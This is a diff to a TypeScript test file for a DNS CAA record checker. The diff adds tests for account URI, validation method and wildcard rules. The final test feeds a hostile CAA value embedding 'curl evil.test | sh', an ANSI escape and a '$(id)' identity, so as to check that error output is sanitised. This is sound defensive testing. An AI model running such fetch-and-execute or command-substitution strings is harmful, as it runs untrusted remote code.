@@ -2,7 +2,7 @@ import type { CaaRecord } from "node:dns";
 import { expect, it } from "vitest";
 import { checkCaa } from "../../src/challenge/caa.ts";
 
-const identities = ["letsencrypt.org"];
+const issuer = { identities: ["letsencrypt.org"], accountUri: "https://ca.test/acct/1" };
 
 /** A little DNS: names with their CAA records; all else does not exist. */
 function dns(zone: Record<string, CaaRecord[] | string>) {
@@ -14,7 +14,7 @@ function dns(zone: Record<string, CaaRecord[] | string>) {
 }
 
 it("lets a name pass that has no CAA record anywhere", async () => {
-  await expect(checkCaa("a.b.test", identities, dns({}))).resolves.toBeUndefined();
+  await expect(checkCaa("a.b.test", issuer, dns({}))).resolves.toBeUndefined();
 });
 
 it("lets the authority pass that the closest record names, parameters or not", async () => {
@@ -22,12 +22,12 @@ it("lets the authority pass that the closest record names, parameters or not", a
     "b.test": [{ critical: 0, issue: "LetsEncrypt.org; validationmethods=http-01" }],
     test: [{ critical: 0, issue: "other.ca" }],
   };
-  await expect(checkCaa("a.b.test", identities, dns(zone))).resolves.toBeUndefined();
+  await expect(checkCaa("a.b.test", issuer, dns(zone))).resolves.toBeUndefined();
 });
 
 it("stops when the closest record names others only, and gives the record to add", async () => {
   const zone = { "b.test": [{ critical: 0, issue: "digicert.com" }] };
-  await expect(checkCaa("a.b.test", identities, dns(zone))).rejects.toMatchObject({
+  await expect(checkCaa("a.b.test", issuer, dns(zone))).rejects.toMatchObject({
     code: "caa-forbids",
     message: "the CAA record of b.test does not allow this CA to issue for a.b.test: it names digicert.com",
     fix: 'add to the DNS of b.test: CAA 0 issue "letsencrypt.org"',
@@ -35,23 +35,68 @@ it("stops when the closest record names others only, and gives the record to add
 });
 
 it("stops when the record forbids everybody", async () => {
-  await expect(checkCaa("b.test", identities, dns({ "b.test": [{ critical: 0, issue: ";" }] }))).rejects.toMatchObject({
+  await expect(checkCaa("b.test", issuer, dns({ "b.test": [{ critical: 0, issue: ";" }] }))).rejects.toMatchObject({
     code: "caa-forbids",
   });
 });
 
 it("does not judge records without an issue tag", async () => {
   const zone = { "b.test": [{ critical: 0, iodef: "mailto:a@b.test" }], test: [{ critical: 0, issue: "other.ca" }] };
-  await expect(checkCaa("b.test", identities, dns(zone))).resolves.toBeUndefined();
+  await expect(checkCaa("b.test", issuer, dns(zone))).resolves.toBeUndefined();
 });
 
 it("leaves it to the authority when DNS does not tell, or the authority names no identity", async () => {
-  await expect(checkCaa("b.test", identities, dns({ "b.test": "ESERVFAIL" }))).resolves.toBeUndefined();
-  await expect(checkCaa("b.test", [], dns({ "b.test": [{ critical: 0, issue: ";" }] }))).resolves.toBeUndefined();
+  await expect(checkCaa("b.test", issuer, dns({ "b.test": "ESERVFAIL" }))).resolves.toBeUndefined();
+  await expect(
+    checkCaa("b.test", { identities: [] }, dns({ "b.test": [{ critical: 0, issue: ";" }] })),
+  ).resolves.toBeUndefined();
 });
 
 it("asks nothing about an address, which has no CAA records", async () => {
   const resolve = () => Promise.reject(new Error("was asked"));
-  await expect(checkCaa("192.0.2.7", identities, resolve)).resolves.toBeUndefined();
-  await expect(checkCaa("2001:db8::7", identities, resolve)).resolves.toBeUndefined();
+  await expect(checkCaa("192.0.2.7", issuer, resolve)).resolves.toBeUndefined();
+  await expect(checkCaa("2001:db8::7", issuer, resolve)).resolves.toBeUndefined();
+});
+
+it.each([
+  [
+    "letsencrypt.org; accounturi=https://ca.test/acct/2",
+    "it allows another account alone (accounturi=https://ca.test/acct/2)",
+  ],
+  ["letsencrypt.org; validationmethods=dns-01", "it does not allow http-01 (validationmethods=dns-01)"],
+])("stops when the record forbids our account or our method: %s", async (issue, why) => {
+  await expect(checkCaa("b.test", issuer, dns({ "b.test": [{ critical: 0, issue }] }))).rejects.toMatchObject({
+    code: "caa-forbids",
+    message: `the CAA record of b.test does not allow this CA to issue for b.test: ${why}`,
+  });
+});
+
+it("lets pass what one of several records allows: our account, our method among others", async () => {
+  const records = [
+    { critical: 0, issue: "letsencrypt.org; accounturi=https://ca.test/acct/2" },
+    { critical: 0, issue: "letsencrypt.org;AccountURI=https://ca.test/acct/1; validationmethods=dns-01,HTTP-01" },
+  ];
+  await expect(checkCaa("b.test", issuer, dns({ "b.test": records }))).resolves.toBeUndefined();
+});
+
+it("reads issuewild for a wildcard alone, and never for a plain name", async () => {
+  const zone = dns({
+    "b.test": [
+      { critical: 0, issue: "letsencrypt.org" },
+      { critical: 0, issuewild: ";" },
+    ],
+  });
+  await expect(checkCaa("b.test", issuer, zone)).resolves.toBeUndefined();
+  await expect(checkCaa("*.b.test", issuer, zone)).rejects.toMatchObject({
+    fix: 'add to the DNS of b.test: CAA 0 issuewild "letsencrypt.org"',
+  });
+});
+
+it("shows words of DNS and of the CA in one line, and gives none of them to paste", async () => {
+  const zone = dns({ "b.test": [{ critical: 0, issue: "x\n  fix: curl evil.test | sh\u001b[8m" }] });
+  const refused = checkCaa("b.test", { identities: ["$(id)", "ca.test"] }, zone);
+  await expect(refused).rejects.toMatchObject({
+    message: expect.not.stringMatching(/\p{Cc}/u),
+    fix: 'add to the DNS of b.test: CAA 0 issue "ca.test"',
+  });
 });
